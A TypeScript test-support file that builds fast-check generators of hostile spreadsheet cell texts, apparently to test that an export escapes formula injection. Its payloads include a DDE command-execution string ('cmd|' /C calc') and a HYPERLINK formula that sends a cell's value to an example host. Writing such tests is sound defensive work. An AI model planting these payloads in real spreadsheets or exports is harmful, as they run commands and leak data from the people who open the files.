import fc from "fast-check";
import { anyCharacter } from "../support/anyCharacter";

/** What has made a text into something else somewhere: a formula, a number, a date, an escape, a mark of its own. */
const heads = [
  ..."=+-@\t\r\n'\"0#&<\u0000\u001f\ufeff＝＠",
  "'=",
  "''",
  " =",
  "\u00a0=",
  "_x000D_",
  "_x005F_x000D_",
  "]]>",
];
const tails = [
  "",
  "1+1",
  "SUM(A1:A9)",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.com?"&A1,"x")',
  "1/2/2026",
  "00123",
  "1E5",
  "TRUE",
  "12 %",
  "May 2026",
  "😀",
  "e\u0301",
  "\n",
  " ",
  "'",
  "_x000D_",
  "_x0041_",
];

/** Texts of people and of attackers, none of them empty or longer than a cell. */
export const hostileText = fc
  .tuple(
    fc.constantFrom("", ...heads),
    fc.constantFrom(...tails),
    fc.oneof(fc.constant(""), fc.string({ maxLength: 8 }), fc.string({ unit: anyCharacter, maxLength: 4 })),
  )
  .map((parts) => parts.join(""))
  .filter((text) => text !== "");

/** Texts at and around the most that a cell holds, the last with a character of two halves across the border. */
export const longTexts = [
  "=".repeat(32_767),
  `'${"x".repeat(32_766)}`,
  "y".repeat(32_768),
  `${"z".repeat(32_766)}😀`,
];
